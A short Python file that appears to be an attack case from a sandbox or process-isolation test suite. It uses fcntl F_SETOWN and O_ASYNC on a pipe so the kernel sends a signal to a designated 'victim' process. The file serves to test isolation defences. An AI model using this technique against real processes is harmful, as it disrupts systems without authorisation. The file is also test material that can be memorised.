"""Makes another process the owner of a pipe, so that the kernel sends it a signal."""

# judge: victim

import fcntl
import os


def attack(ground):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, ground["victim"])
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"wake up")
